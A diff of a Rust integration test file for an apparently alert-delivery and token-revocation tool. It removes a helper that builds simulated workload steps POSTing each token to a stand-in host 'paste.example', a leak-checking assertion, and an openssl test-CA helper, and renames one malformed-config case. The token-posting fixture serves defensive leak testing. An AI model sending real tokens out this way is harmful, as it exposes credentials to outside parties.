@@ -28,32 +28,6 @@ fn config(dir: &Path, body: &str) -> PathBuf {
     p
 }
 
-/// Workload steps sending each token in its own HTTP request to `sink` (not an issuer).
-fn leak_steps(tokens: &[String], sink: std::net::SocketAddr) -> Vec<String> {
-    tokens
-        .iter()
-        .flat_map(|t| {
-            [
-                format!("set:POST /paste HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 46\r\n\r\ntoken={t}"),
-                format!("tcp:{sink}"),
-            ]
-        })
-        .collect()
-}
-
-fn assert_no_token(tokens: &[String], places: &[(&str, String)], dirs: &[&Path]) {
-    for t in tokens {
-        let secret = &t[4..];
-        for (what, text) in places {
-            assert!(!text.contains(secret), "token leaked into {what}");
-        }
-        for d in dirs {
-            let hits = files_containing(d, secret.as_bytes());
-            assert!(hits.is_empty(), "token bytes in {hits:?}");
-        }
-    }
-}
-
 #[test]
 fn http_output_down_then_503_retry_after_then_up_delivers_every_alert_once_in_order() {
     let dir = temp_dir("deliv-http");
@@ -324,7 +298,7 @@ fn malformed_outputs_and_revocation_config_exit_2_naming_key_and_position() {
     let plain = dir.join("plain.secret");
     std::fs::write(&plain, "MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n").unwrap();
     let cases: Vec<(String, Vec<String>)> = vec![
-        ("outputs:\n  - kind: stdout\n  - kind: kafka\n".into(), vec!["outputs[1].kind".into(), "kafka".into(), "line 4".into()]),
+        ("outputs:\n  - kind: stdout\n  - kind: kinesis\n".into(), vec!["outputs[1].kind".into(), "kinesis".into(), "line 4".into()]),
         ("outputs:\n  - kind: http\n    url: \"not a url\"\n".into(), vec!["outputs[0]".into(), "`url`".into(), "line 3".into()]),
         ("outputs:\n  - kind: stdout\n  - kind: webhook\n    url: https://soar.example/\n    secret_file: /nonexistent/webhook.secret\n".into(),
             vec!["outputs[1]".into(), "secret_file".into(), "/nonexistent/webhook.secret".into(), "line 4".into()]),
@@ -365,79 +339,6 @@ fn malformed_outputs_and_revocation_config_exit_2_naming_key_and_position() {
             "secret echoed: {err}"
         );
     }
-}
-
-/// `openssl` makes a CA and a server certificate for 127.0.0.1 signed by it.
-fn make_ca(dir: &Path, name: &str) -> (PathBuf, PathBuf, PathBuf) {
-    let run = |args: &[&str]| {
-        let o = Command::new("openssl")
-            .args(args)
-            .current_dir(dir)
-            .output()
-            .expect("openssl");
-        assert!(
-            o.status.success(),
-            "openssl {args:?}: {}",
-            String::from_utf8_lossy(&o.stderr)
-        );
-    };
-    let (ca, ca_key) = (format!("{name}-ca.pem"), format!("{name}-ca.key"));
-    let (crt, key, csr) = (
-        format!("{name}-srv.pem"),
-        format!("{name}-srv.key"),
-        format!("{name}-srv.csr"),
-    );
-    run(&[
-        "req",
-        "-x509",
-        "-newkey",
-        "rsa:2048",
-        "-nodes",
-        "-keyout",
-        &ca_key,
-        "-out",
-        &ca,
-        "-days",
-        "2",
-        "-subj",
-        &format!("/CN={name} test CA"),
-    ]);
-    run(&[
-        "req",
-        "-newkey",
-        "rsa:2048",
-        "-nodes",
-        "-keyout",
-        &key,
-        "-out",
-        &csr,
-        "-subj",
-        "/CN=127.0.0.1",
-    ]);
-    let ext = dir.join(format!("{name}.ext"));
-    std::fs::write(
-        &ext,
-        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
-    )
-    .unwrap();
-    run(&[
-        "x509",
-        "-req",
-        "-in",
-        &csr,
-        "-CA",
-        &ca,
-        "-CAkey",
-        &ca_key,
-        "-CAcreateserial",
-        "-out",
-        &crt,
-        "-days",
-        "2",
-        "-extfile",
-        ext.to_str().unwrap(),
-    ]);
-    (dir.join(ca), dir.join(crt), dir.join(key))
 }
 
 /// A TLS (rustls) HTTP endpoint answering 200 to every request; counts requests.
